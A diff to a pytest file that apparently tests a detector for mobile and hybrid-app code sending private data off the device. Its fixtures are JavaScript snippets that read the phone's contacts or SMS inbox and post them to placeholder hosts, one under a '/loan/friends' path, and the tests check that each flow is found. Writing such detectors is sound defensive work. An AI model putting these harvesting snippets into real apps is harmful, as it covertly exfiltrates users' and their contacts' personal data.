@@ -128,6 +128,100 @@ def test_offsets_are_those_of_the_file(text: str) -> None:
         assert called.partition("(")[0].endswith((".find", ".getAll"))
 
 
+NATIVE_JS = """
+var resolver = plus.android.runtimeMainActivity().getContentResolver();
+var CC = plus.android.importClass("android.provider.ContactsContract");
+function all() { var out = [], cur = resolver.query(CC.CommonDataKinds.Phone.CONTENT_URI, null);
+  while (cur.moveToNext()) out.push({ n: cur.getString(0) }); return out; }
+mui.post(BASE + '/user/phones', { list: JSON.stringify(all()) });
+var BASE = 'https://mui.example/api';
+"""
+OWN_MODULE = """
+import {NativeModules} from 'react-native';
+const {PhoneBook} = NativeModules;
+export default class A extends Component {
+ componentDidMount(){ PhoneBook.getContacts((list)=>{ this.up(list); }); }
+ up(list){ this.$http.post('https://x.example/a', {l: list.map(i=>i.phone)}); } }
+"""
+NAMED_BRIDGE = """
+var request = axios.create({baseURL: 'https://h5.example/gw'});
+bridge.callHandler('getContactList', {}, function(resp){
+  request({url:'/loan/friends', method:'post', data:{f: JSON.parse(resp).list}}); });
+"""
+EXPO = """
+import * as Contacts from 'expo-contacts';
+import axios from 'axios';
+const api = axios.create({ baseURL: 'https://expo.example/api/' });
+export function useSync(){ useEffect(() => { (async () => {
+  const { data } = await Contacts.getContactsAsync({}); await api.post('people', { data }); })(); }, []); }
+"""
+ANGULAR = """
+import { Contacts } from '@capacitor-community/contacts';
+const environment = { api: 'https://ng.example/v1' };
+export class P { constructor(http){ this.http = http; }
+ async sync(){ const r = await Contacts.getContacts({}); const rows = r.contacts.map(c => ({n:c.name}));
+  this.http.post(environment.api + '/c', rows).subscribe(); }
+ ngOnInit(){ this.sync(); } }
+"""
+FORM = """
+function up(list){ var fd = new FormData(); fd.append('book', JSON.stringify(list)); fd.append('t', 1);
+ var xhr = new XMLHttpRequest(); xhr.open('POST', 'https://f.example/ul'); xhr.send(fd); }
+navigator.contacts.find(["*"], up, function(){}, {multiple:true});
+"""
+
+
+@pytest.mark.parametrize(
+    ("text", "source", "url", "fields"),
+    [
+        pytest.param(
+            NATIVE_JS, "query", "https://mui.example/api/user/phones", ("list", "n"), id="Native.js"
+        ),
+        pytest.param(
+            OWN_MODULE,
+            "NativeModules.PhoneBook.getContacts",
+            "https://x.example/a",
+            ("l",),
+            id="a module of the app",
+        ),
+        pytest.param(
+            NAMED_BRIDGE,
+            "callHandler",
+            "https://h5.example/gw/loan/friends",
+            ("f",),
+            id="a bridge asked by name",
+        ),
+        pytest.param(
+            EXPO,
+            "expo-contacts.getContactsAsync",
+            "https://expo.example/api/people",
+            ("data",),
+            id="Expo",
+        ),
+        pytest.param(
+            ANGULAR, "getContacts", "https://ng.example/v1/c", ("n",), id="Angular and Capacitor"
+        ),
+        pytest.param(
+            FORM, "navigator.contacts.find", "https://f.example/ul", ("book",), id="form data"
+        ),
+    ],
+)
+def test_other_readers_and_senders(
+    text: str, source: str, url: str, fields: tuple[str, ...]
+) -> None:
+    assert [(f.source.signature, f.endpoint, f.fields) for f in facts(text).flows] == [
+        (source, url, fields)
+    ]
+
+
+def test_java_query_of_messages_through_invoke() -> None:
+    text = """var u = plus.android.importClass("android.net.Uri").parse("content://sms/inbox");
+    var cur = plus.android.invoke(resolver, "query", u, null);
+    uni.request({url: "https://s.example/m", method: "POST", data: plus.android.invoke(cur, "getString", 2)});"""
+    found = facts(text)
+    assert [(r.rule, r.data_type) for r in found.reads] == [("invoked_sms", "sms")]
+    assert [f.endpoint for f in found.flows] == ["https://s.example/m"]
+
+
 NOT_SENT = """
 navigator.contacts.find(['*'], function (cs) { document.title = cs.length; draw(cs); });
 function draw(cs) { cs.forEach(function (c) { document.body.appendChild(el(c.displayName)); }); }
